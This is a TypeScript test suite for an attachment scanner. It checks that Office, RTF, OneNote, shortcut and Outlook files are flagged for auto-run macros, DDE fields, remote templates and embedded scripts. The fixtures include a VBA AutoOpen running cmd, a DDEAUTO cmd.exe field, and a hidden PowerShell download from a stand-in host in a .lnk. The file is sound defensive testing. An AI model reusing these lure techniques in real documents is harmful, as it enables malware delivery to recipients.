import { describe, expect, it } from 'vitest';
import { bytesOf, latin, zipOf } from '../../attachments/archives.ts';
import {
  compoundOf,
  docxOf,
  macrosOf,
  notebookOf,
  outlookOf,
  packageOf,
  shortcutOf,
  signedOf,
  tnefOf,
  wordOf,
} from '../../attachments/documents.ts';
import { open } from '../../attachments/opening.ts';
import { codePng } from '../../attachments/pictures.ts';

const kinds = (opened: { traits?: { kind: string }[] | undefined }) => (opened.traits ?? []).map(({ kind }) => kind);
const autoOpen = 'Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "cmd /c calc"\r\nEnd Sub\r\n';

describe('Open XML', () => {
  it('gives words, and links with the words they show', async () => {
    const body =
      '<w:p><w:r><w:t>Dear </w:t></w:r><w:r><w:t>Ana,</w:t></w:r></w:p><w:p><w:hyperlink r:id="r1"><w:r><w:t>your invoice</w:t></w:r></w:hyperlink></w:p>';
    const opened = await open(
      'a.docx',
      await docxOf({ body, relations: [{ id: 'r1', kind: 'hyperlink', target: 'https://stranger.test/pay' }] }),
    );
    expect(opened).toMatchObject({
      format: 'ooxml',
      text: 'Dear Ana,\nyour invoice',
      links: [{ target: 'https://stranger.test/pay', shown: 'your invoice' }],
    });
    expect(opened.traits).toBeUndefined();
  });

  it('says what it fetches: a template or an object elsewhere, not one on a drive of one’s own', async () => {
    const template = (target: string) =>
      docxOf({ body: 'x', settings: [{ id: 'r1', kind: 'attachedTemplate', target }] });
    const remote = await open('a.docx', await template('https://stranger.test/t.dotm'));
    expect(remote.traits).toEqual([{ kind: 'remote-template', quote: 'https://stranger.test/t.dotm' }]);
    expect(kinds(await open('a.docx', await template('\\\\203.0.113.9\\s\\t.dotm')))).toEqual(['remote-template']);
    expect(kinds(await open('a.docx', await template('file:///C:\\Templates\\Letter.dotm')))).toEqual([]);
    const object = await docxOf({
      relations: [{ id: 'r1', kind: 'oleObject', target: 'mhtml:https://stranger.test/x!y' }],
    });
    expect(kinds(await open('a.docx', object))).toEqual(['remote-object']);
  });

  it('shows its macros, and which start by themselves', async () => {
    const macros = (source: string) => docxOf({ files: { 'word/vbaProject.bin': compoundOf(macrosOf('', source)) } });
    const opened = await open('a.docm', await macros(autoOpen));
    expect(kinds(opened)).toEqual(['macro', 'macro-auto', 'macro-runs']);
    expect(opened.traits?.[1]?.quote).toBe('Sub AutoOpen()');
    expect(kinds(await open('a.docm', await macros('Sub Total()\r\nx = 1 + 1\r\nEnd Sub\r\n')))).toEqual(['macro']);
    expect(kinds(await open('a.docm', await macros('')))).toEqual([]);
  });

  it('reads fields that start another program', async () => {
    const body =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    expect((await open('a.docx', await docxOf({ body }))).traits).toMatchObject([
      { kind: 'dde', quote: expect.stringContaining('cmd.exe') },
    ]);
  });

  it('finds Excel 4 macros, embedded files, and codes in its pictures', async () => {
    const sheet = await zipOf({
      '[Content_Types].xml': '<Types/>',
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>',
      'xl/macrosheets/sheet1.xml': '<xm:macrosheet><row><c><f>EXEC("calc")</f></c></row></xm:macrosheet>',
      'xl/sharedStrings.xml': '<sst><si><t>Enable content to see this sheet</t></si></sst>',
    });
    expect(await open('a.xlsm', sheet)).toMatchObject({
      text: 'Enable content to see this sheet',
      traits: [{ kind: 'excel4-macro', quote: '_xlnm.Auto_Open' }],
    });
    const embedded = await docxOf({
      body: 'Double click',
      files: {
        'word/embeddings/oleObject1.bin': compoundOf({ '\u0001Ole10Native': packageOf('invoice.js', 'alert(1)') }),
        'word/media/image1.png': await codePng('https://stranger.test/q'),
      },
    });
    expect(await open('a.docx', embedded)).toMatchObject({
      children: [{ name: 'invoice.js' }],
      traits: [{ kind: 'embedded-object', quote: 'invoice.js' }],
      codes: [{ kind: 'QRCode', text: 'https://stranger.test/q' }],
      pictures: 1,
    });
  });

  it('OpenDocument gives words, links and events', async () => {
    const file = await zipOf({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'content.xml':
        '<office:document-content><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.run"/></office:event-listeners><text:p>See <text:a xlink:href="https://stranger.test/o">here</text:a></text:p></office:document-content>',
    });
    expect(await open('a.odt', file)).toMatchObject({
      format: 'odf',
      text: 'See here',
      links: [{ target: 'https://stranger.test/o' }],
      traits: [{ kind: 'macro-auto', quote: 'dom:load vnd.sun.star.script:Standard.M.run' }],
    });
  });
});

describe('compound files', () => {
  it('Word’s old format gives its words and fields', async () => {
    const text = 'Dear Ana,\rsee \u0013HYPERLINK "https://stranger.test/d"\u0014the invoice\u0015 today\r';
    expect(await open('a.doc', compoundOf(wordOf(text)))).toMatchObject({
      format: 'office',
      text: 'Dear Ana,\nsee the invoice today',
      links: [{ target: 'https://stranger.test/d', shown: 'the invoice' }],
    });
  });

  it('shows macros and objects that lie in it', async () => {
    const opened = await open(
      'a.doc',
      compoundOf({
        ...wordOf('x'),
        ...macrosOf('Macros/', autoOpen),
        'ObjectPool/_1/\u0001Ole10Native': packageOf('run.vbs', 'x'),
        'ObjectPool/_2/Equation Native': 'x',
      }),
    );
    expect(kinds(opened).sort()).toEqual(['embedded-object', 'equation-object', 'macro', 'macro-auto', 'macro-runs']);
    expect(opened.children).toMatchObject([{ name: 'run.vbs' }]);
  });

  it('one with a password says so, and one of an unknown kind too', async () => {
    expect(await open('a.xlsx', compoundOf({ EncryptedPackage: 'x', EncryptionInfo: 'x' }))).toMatchObject({
      lock: 'closed',
      unread: [{ why: 'locked' }],
    });
    expect((await open('a.bin', compoundOf({ Something: 'x' }))).unread).toMatchObject([{ why: 'unknown' }]);
  });

  it('Outlook’s own file is written again as a message, with its files', async () => {
    const opened = await open(
      'a.msg',
      outlookOf({
        headers: 'From: "Bank" <a@stranger.test>\r\nSubject: Pay\r\nContent-Type: multipart/mixed; boundary=x\r\n',
        html: '<p>Pay <a href="https://stranger.test/m">now</a></p>',
        file: { name: 'invoice.pdf', content: '%PDF-' },
      }),
    );
    expect(opened).toMatchObject({ format: 'mail', children: [{ name: 'invoice.pdf' }] });
    const message = new TextDecoder().decode(opened.message);
    expect(message).toContain('From: "Bank" <a@stranger.test>\r\n');
    expect(message).not.toContain('multipart');
    expect(message).toMatch(/text\/html; charset=utf-8\r\n\r\n<p>Pay/);
    const without = await open('b.msg', outlookOf({ html: '<p>Hello</p>' }));
    expect(new TextDecoder().decode(without.message)).toContain('From: Sender <sender@stranger.test>');
  });
});

describe('RTF', () => {
  it('gives words, fields and the template it loads', async () => {
    const rtf =
      '{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\*\\template https://stranger.test/t.rtf}Dear \\b Ana\\b0,\\par please{\\field{\\*\\fldinst{HYPERLINK "https://stranger.test/r"}}{\\fldrslt  pay}}\\par}';
    expect(await open('a.doc', latin(rtf))).toMatchObject({
      text: 'Dear Ana,\nplease pay',
      links: [{ target: 'https://stranger.test/r' }],
      traits: [{ kind: 'remote-template', quote: 'https://stranger.test/t.rtf' }],
    });
  });

  it('unpacks the objects that lie in it', async () => {
    const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString('hex');
    const equation = latin('\u0001\u0005\u0000\u0000\u0002\u0000\u0000\u0000\u000b\u0000\u0000\u0000Equation.3\u0000');
    const opened = await open('a.rtf', latin(`{\\rtf1 x{\\object\\objupdate{\\*\\objdata ${hex(equation)}}}}`));
    expect(kinds(opened)).toContain('equation-object');
    const compound = compoundOf({ '\u0001Ole10Native': packageOf('run.js', 'x') });
    const dropped = await open('a.rtf', latin(`{\\rtf1 {\\*\\objdata ${hex(compound)}}}`));
    expect(dropped.children).toMatchObject([{ name: 'run.js' }]);
  });
});

describe('formats of Windows and Outlook', () => {
  it('a shortcut says what it starts', async () => {
    const command = '-w hidden -c "iwr https://stranger.test/p -useb"';
    expect(await open('Invoice.lnk', shortcutOf('C:\\Windows\\System32\\powershell.exe', command))).toMatchObject({
      traits: [{ kind: 'shortcut-command', quote: `C:\\Windows\\System32\\powershell.exe ${command}` }],
      links: [{ target: 'https://stranger.test/p' }],
    });
    expect(kinds(await open('a.lnk', shortcutOf('\\\\203.0.113.4\\share\\x.exe', '')))).toContain('shortcut-remote');
  });

  it('an Internet shortcut that leads to a share is told from one to a site', async () => {
    expect(await open('a.url', '[InternetShortcut]\r\nURL=file://203.0.113.4/s/x.lnk\r\n')).toMatchObject({
      traits: [{ kind: 'shortcut-remote', quote: 'URL=file://203.0.113.4/s/x.lnk' }],
    });
    const site = await open('a.url', '[InternetShortcut]\r\nURL=https://stranger.test/\r\n');
    expect(site.links).toMatchObject([{ target: 'https://stranger.test/' }]);
    expect(site.traits).toBeUndefined();
  });

  it('a notebook gives its files', async () => {
    const opened = await open('a.one', notebookOf('invoice.hta', latin('<script>1</script>')));
    expect(opened).toMatchObject({
      traits: [{ kind: 'notebook-file', quote: 'invoice.hta' }],
      children: [{ name: 'invoice.hta', size: 18 }],
    });
    expect(opened.text).toContain('Double click to view');
  });

  it('winmail.dat gives its files', async () => {
    expect((await open('winmail.dat', tnefOf('minutes.txt', 'hello'))).children).toMatchObject([
      { name: 'minutes.txt', size: 5 },
    ]);
  });

  it('a signed message is taken out of its signature; one apart holds nothing', async () => {
    const opened = await open('smime.p7m', signedOf('Content-Type: text/plain\r\n\r\nHello'));
    expect(new TextDecoder().decode(opened.message)).toBe('Content-Type: text/plain\r\n\r\nHello');
    expect(await open('smime.p7s', signedOf(undefined))).toEqual({ format: 'pkcs7' });
  });
});

describe('text', () => {
  it('is read in its letters; what is none is said to be unknown', async () => {
    expect((await open('a.txt', bytesOf('Grüße'))).text).toBe('Grüße');
    expect((await open('a.txt', new Uint8Array([0xff, 0xfe, ...Buffer.from('Grüße', 'utf16le')]))).text).toBe('Grüße');
    expect((await open('a.txt', latin('Gr\u00fc\u00dfe')))?.text).toBe('Grüße');
    expect(
      (
        await open(
          'a.dat',
          new Uint8Array(300).map((_, i) => (i * 37) % 256),
        )
      ).unread,
    ).toMatchObject([{ why: 'unknown' }]);
    expect(await open('a.txt', new Uint8Array())).toEqual({});
  });
});
